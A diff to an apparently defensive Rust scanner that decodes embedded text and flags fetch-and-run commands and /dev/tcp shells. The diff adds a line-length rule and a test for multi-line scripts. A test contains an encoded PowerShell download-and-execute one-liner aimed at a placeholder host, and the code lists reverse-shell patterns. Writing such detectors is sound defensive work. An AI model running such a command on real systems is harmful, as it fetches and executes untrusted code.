@@ -138,6 +138,8 @@ const STARTS: &[&str] = &[
 /// Longest text that is decoded, shortest that is believed, and most that are looked at.
 const TEXT_MAX: usize = 1 << 14;
 const SHORTEST: usize = 20;
+/// Longest command that is one line and no script.
+const LINE_MAX: usize = 600;
 const TEXTS_MAX: usize = 256;
 /// Most bytes of a file that are looked through.
 const BYTES_MAX: u64 = 256 << 20;
@@ -309,8 +311,11 @@ fn readable(bytes: &[u8]) -> Option<Vec<u8>> {
 fn judged(text: &str) -> Option<bool> {
     let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
     let address = text.contains("http://") || text.contains("https://");
-    let all = address && has(FETCHES) && has(RUNS) || text.contains("/dev/tcp/") && has(&["bash", "sh -"]);
-    (all || has(SHELLS) || address && has(FETCHES)).then_some(all)
+    // A script of many lines is one that somebody put away as a file, to be read by whoever unpacks it.
+    let is_line = text.len() <= LINE_MAX && text.trim_end().lines().count() <= 3;
+    let goes_all_the_way = address && has(FETCHES) && has(RUNS) || text.contains("/dev/tcp/") && has(&["bash", "sh -"]);
+    let all = is_line && goes_all_the_way;
+    (goes_all_the_way || has(SHELLS) || address && has(FETCHES)).then_some(all)
 }
 
 #[cfg(test)]
@@ -342,6 +347,13 @@ mod tests {
         let wide: Vec<u8> = "iex (iwr https://example.invalid/a)".bytes().flat_map(|b| [b, 0]).collect();
         let wide = general_purpose::STANDARD.encode(wide);
         assert_eq!(seen(wide.as_bytes(), vec!["system"]), ["native-coded-fetch-and-run"]);
+    }
+
+    #[test]
+    fn a_script_of_many_lines_is_for_a_person_to_look_at() {
+        let script = format!("#!/bin/sh\nset -e\n{FETCH}\necho done\nexit 0\n");
+        let coded = general_purpose::STANDARD.encode(script);
+        assert_eq!(seen(coded.as_bytes(), vec!["system"]), ["native-coded-command"]);
     }
 
     #[test]
